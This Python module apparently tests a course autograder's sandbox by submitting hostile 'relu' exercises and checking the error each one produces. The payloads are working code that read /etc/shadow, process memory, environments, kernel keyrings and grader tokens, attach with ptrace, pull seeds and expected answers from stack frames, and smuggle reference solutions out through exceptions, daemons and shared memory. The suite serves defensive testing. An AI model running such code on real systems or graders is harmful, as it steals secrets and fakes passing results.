"""Looking for what is not theirs: secrets of the grader, answers, seeds, other people's work."""

from attack import attack, on_relu
from weapons import LOOT, SEARCH

HONEST_RELU = "\n\ndef relu(x):\n    return np.maximum(0, x)\n"
FOUND_ITS_OWN = r"CANARY-0{32}"


def hunt(name, source, *, tries, named=FOUND_ITS_OWN):
    """A search in the cell of relu that prints what it finds; its own planted canary proves that it can find."""
    attack(name, tries=tries, named=named, earns={"relu": 1})(lambda make: {"relu": SEARCH + source + HONEST_RELU})


hunt(
    "the-file-system",
    """
open("/tmp/own", "w").write(OWN)
names = 0
for root in ("/tmp", "/grader", "/course", "/dev", "/etc", "/"):
    for folder, folders, files in os.walk(root):
        if folder.startswith(("/proc", "/sys", "/usr", "/lib")) or "site-packages" in folder:
            folders.clear()
            continue
        for name in files:
            names += 1
            report(name)
            report(read(os.path.join(folder, name)))
        if late():
            break
print(names, "files")
""",
    tries="It reads every file that it can open.",
)
hunt(
    "places-where-courses-lie",
    """
import glob
open("/tmp/own.db", "w").write(OWN)
for pattern in ("/tmp/own.db", "/root/*", "/home/*/*", "/work/*/*", "/var/*/*", "/etc/passwd", "/etc/shadow",
                "/run/**/*", "/*/solutions/*.py", "/*/*/solutions/*.py", "/*/mistakes/*.py",
                "/*/*/mistakes/*.py", "/grader/**/*",
                "/*/gradebook.db", "/*/*/gradebook.db", "/*/*/*/gradebook.db", "/*/exam.txt", "/tmp/*/*/*/exam.txt",
                "/proc/*/root/tmp/*/*", "/proc/*/cwd/*", "/proc/*/root/work/*", "/course/**/*.ipynb", "/tmp/**/*"):
    for path in glob.iglob(pattern, recursive=True):
        report(read(path))
        if late():
            raise SystemExit
""",
    tries="It looks for gradebooks, solutions, mistakes and submissions where courses keep them, also through /proc.",
)
hunt(
    "environments",
    """
os.environ["OWN"] = OWN
for path in ["/proc/self/environ", *PROCESSES("environ"), *PROCESSES("cmdline"), *PROCESSES("mountinfo")]:
    report(read(path))
report(repr(dict(os.environ)))
import ctypes
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
print(ctypes.CDLL(None).getenv(b"GRADER_TOKEN"))
""",
    tries="It reads the environments and command lines of all processes, and the C library's copy of its own.",
)
hunt(
    "memory-of-processes",
    """
import re
own = OWN.encode() * 3
for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int, reverse=True):
    try:
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            if "r" in line.split()[1] and end - start < 64 << 20 and (".so" not in line):
                try:
                    report(os.pread(memory.fileno(), end - start, start))
                except OSError:
                    pass
            if late():
                break
    except OSError as error:
        print(pid, error)
""",
    tries="It reads the memory of all processes through /proc.",
)
hunt(
    "objects-in-memory",
    """
import gc
kept = [OWN]
gc.unfreeze()
for thing in gc.get_objects():
    for inner in [thing, *gc.get_referents(thing)]:
        if type(inner) in (str, bytes):
            report(inner)
""",
    tries="It reads every string that the garbage collector knows, also those frozen before the fork.",
)
hunt(
    "tracing-other-processes",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2, 3, os.getppid()):
    print(pid, [libc.ptrace(request, pid, 0, 0) for request in (16, 0x4206)], ctypes.get_errno())
    buffer = ctypes.create_string_buffer(4096)
    print(libc.process_vm_readv(pid, buffer, 1, buffer, 1, 0), ctypes.get_errno())
print("own", OWN)
""",
    tries="It attaches to its parents with ptrace and reads them with process_vm_readv.",
)
hunt(
    "inherited-descriptors",
    """
own = os.open("/tmp/own", os.O_RDWR | os.O_CREAT)
os.write(own, OWN.encode())
for descriptor in range(256):
    try:
        report(os.readlink(f"/proc/self/fd/{descriptor}"))
        os.set_blocking(descriptor, False)
        report(os.pread(descriptor, 1 << 20, 0))
    except OSError:
        pass
for path in PROCESSES("fd/*"):
    report(read(path))
import socket
for descriptor in range(3, 64):
    try:
        thing = socket.socket(fileno=os.dup(descriptor))
        print(descriptor, thing.getsockname(), thing.getpeername(), thing.type)
        thing.setblocking(False)
        report(socket.recv_fds(thing, 1 << 16, 8, socket.MSG_PEEK)[0])
    except OSError:
        pass
""",
    tries="It reads from every descriptor that it inherited, and takes descriptors out of sockets.",
)
hunt(
    "kernel-keys-and-logs",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for keyring in (-1, -2, -3, -4, -5):
    buffer = ctypes.create_string_buffer(65536)
    print(keyring, libc.syscall(250, 6, keyring, buffer, 65536), ctypes.get_errno())
    report(buffer.raw)
for path in ("/proc/keys", "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/proc/net/unix"):
    report(read(path))
print("own", OWN)
""",
    tries="It reads the kernel's keyrings, its log and its memory.",
)


@attack(
    "the-autograder-itself",
    tries="It imports the instructors' package, its tests and the solutions in every way that Python has.",
    named="ModuleNotFoundError",
    earns={"relu": 1},
)
def the_autograder_itself(make):
    source = """
import importlib, importlib.util, pkgutil, sys
for name in ("autograder", "autograder.reference", "autograder.mistakes", "solutions", "tests", "benchmarks", "warm"):
    try:
        print(name, importlib.import_module(name))
    except BaseException as error:
        print(name, type(error).__name__)
print(sorted(name for name in sys.modules if "grader" in name or "solution" in name or "mistake" in name))
"""
    return {"relu": source + HONEST_RELU}


on_relu(
    "the-seed",
    tries="It looks for the seed of this run in its callers' frames, in the orders and in the generator itself.",
    named="returned a string",
    source="""
import gc, sys

def numbers(thing, depth=0):
    if isinstance(thing, (int, np.integer)) and not isinstance(thing, bool) and thing > 2**20:
        yield int(thing)
    elif isinstance(thing, dict) and depth < 4:
        for key, value in thing.items():
            if key in ("seed", "order", "rng", "entropy"):
                yield from numbers(value, depth + 1)
    elif isinstance(thing, (list, tuple)) and depth < 4:
        for value in thing[:10]:
            yield from numbers(value, depth + 1)
    elif isinstance(thing, np.random.Generator):
        yield from numbers(thing.bit_generator.seed_seq.entropy, depth + 1)

def relu(x):
    found, frame = set(), sys._getframe()
    while frame is not None:
        for name in ("seed", "order", "rng", "entropy"):
            found.update(numbers(frame.f_locals.get(name)))
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, np.random.Generator):
            found.update(numbers(thing))
    return "SEEDS: " + (" ".join(map(str, sorted(found))) or "nothing")
""",
)

on_relu(
    "expected-values",
    tries="It looks in its callers' frames, closures and objects for the values that are expected of it.",
    named="differ|expected|same number|returned",
    source="""
import gc, sys

def relu(x):
    frame = sys._getframe()
    while frame is not None:
        for name in ("expected", "answer", "golden", "solution", "reference"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        case = frame.f_locals.get("case")
        if case is not None:
            for part in (case.compare, case.thunk):
                for value in [getattr(part, "__dict__", {}).get("expected"), getattr(part, "expected", None)]:
                    if value is not None:
                        return value
        frame = frame.f_back
    return 7.0
""",
)


# ---- reference answers that are lent ---------------------------------------------------------------------------
# While relu is tried, the reference answers of the blank exercises before it stand in. None of their text may come out.


def looted(name, way_out, *, tries, named="expected|stopped with|returned|passed|differ"):
    """A relu that takes the text of lent answers and carries it out in some form."""
    on_relu(f"loot-{name}", LOOT + way_out, tries=f"It takes the text of lent reference answers and {tries}",
            named=named)


looted("returned", "\ndef relu(x):\n    return loot()[:8000]\n", tries="returns it.")
looted("raised", "\ndef relu(x):\n    raise ValueError(loot()[:8000])\n", tries="raises it as a message.")
looted(
    "base64",
    "\nimport base64\ndef relu(x):\n    raise ValueError(base64.b64encode(loot()[:8000].encode()).decode())\n",
    tries="raises it as a message in base64.",
)
looted(
    "type-name",
    "\ndef relu(x):\n    raise type(loot()[:80], (Exception,), {})()\n",
    tries="raises an exception whose type has it for a name.",
)
looted(
    "kind-of-value",
    "\ndef relu(x):\n    return type(loot()[:80], (), {})()\n",
    tries="returns an object whose type has it for a name.",
)
looted(
    "numbers",
    "\ndef relu(x):\n    return np.array([float(ord(letter)) for letter in loot()[:8000]])\n",
    tries="returns it as an array of character codes.",
)
looted(
    "byte-code",
    "\ndef relu(x):\n    return [list(getattr(f, '__code__', loot.__code__).co_code) for f in lent()][:3]\n",
    tries="returns the byte code as numbers.",
)
looted("printed", "\ndef relu(x):\n    print(loot()[:8000])\n", tries="prints it.")
looted("keys", "\ndef relu(x):\n    return {loot()[:8000]: 0.0, loot()[:4000]: {loot()[:2000]: 1}}\n",
       tries="returns it as the keys of a dict.")
looted("undefined-name", """
def relu(x):
    raise probe.UndefinedName(loot()[:80])

import nn101.checks.probe as probe
""", tries="raises it as the name of something undefined.", named="not attempted")


def carried(name, leave, find, *, tries):
    """Loot that relu takes, and a later exercise, to which nothing is lent at first, shows."""

    @attack(f"carried-{name}", tries=f"It takes lent answers and {tries}", named="stopped with|returned|expected")
    def _(make):
        return {
            "relu": LOOT + f"\ndef relu(x):\n{leave}\n    return 7.0\n",
            "tanh": f"def tanh(x):\n{find}\n",
            "collapse": f"def collapse(*layers):\n{find}\n",
        }


carried(
    "in-a-file",
    "    open('/tmp/loot', 'a').write(loot() if lent() else '')",
    "    raise ValueError(open('/tmp/loot').read()[:8000])",
    tries="leaves them in a file for the exercise after it, which shows them.",
)
carried(
    "by-a-daemon",
    """
    import socket
    if lent() and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            server = socket.socket(socket.AF_UNIX)
            server.bind("\\0loot")
            server.listen()
            while True:
                server.accept()[0].sendall(loot()[:8000].encode())
        os._exit(0)
""",
    """
    import socket
    friend = socket.socket(socket.AF_UNIX)
    friend.connect("\\0loot")
    raise ValueError(friend.recv(8000).decode())
""",
    tries="hands them to a daemon that answers the exercise after it.",
)
carried(
    "in-shared-memory",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    if lent():
        text = loot()[:8000].encode()
        ctypes.memmove(libc.shmat(libc.shmget(4242, 8192, 0o1666), None, 0), text, len(text))
""",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    raise ValueError(ctypes.string_at(libc.shmat(libc.shmget(4242, 8192, 0o1666), None, 0)).decode())
""",
    tries="leaves them in System V shared memory for the exercise after it.",
)
carried(
    "in-the-parent",
    """
    if lent():
        import ctypes
        text = loot()[:4000].encode()
        with open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
            memory.seek(ADDRESS)
            memory.write(text)
""",
    "    raise ValueError(bytes(BOARD).rstrip(b'.').decode())",
    tries="writes them into the memory of the process that forks for the next exercise.",
)
carried(
    "as-forged-records",
    """
    if lent() and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            import json, struct, time
            time.sleep(0.05)
            for _ in range(200):
                for case in ("four values", "two small layers to check by hand"):
                    data = json.dumps({"record": {"case": case, "value": loot()[:8000]}}).encode()
                    for descriptor in range(3, 32):
                        try:
                            os.write(descriptor, struct.pack(">I", len(data)) + data)
                        except OSError:
                            pass
                time.sleep(0.01)
        os._exit(0)
""",
    "    return 7.0",
    tries="hands them to a daemon that writes them as records of the exercises after it.",
)
